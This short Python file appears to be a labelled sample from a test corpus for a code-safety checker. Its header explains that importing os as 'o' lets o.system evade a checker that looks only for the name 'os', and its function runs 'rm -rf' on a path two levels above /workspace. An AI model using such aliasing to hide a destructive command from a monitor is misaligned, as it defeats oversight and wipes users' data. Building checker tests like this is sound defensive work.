# attack-class: 1
# title: os imported under a one-letter alias
# why: o.system is os.system; a checker that only looks for the name "os" misses the alias

import os as o

def cleanup(workdir="/workspace"):
    o.system("rm -rf " + workdir + "/../../")

cleanup()
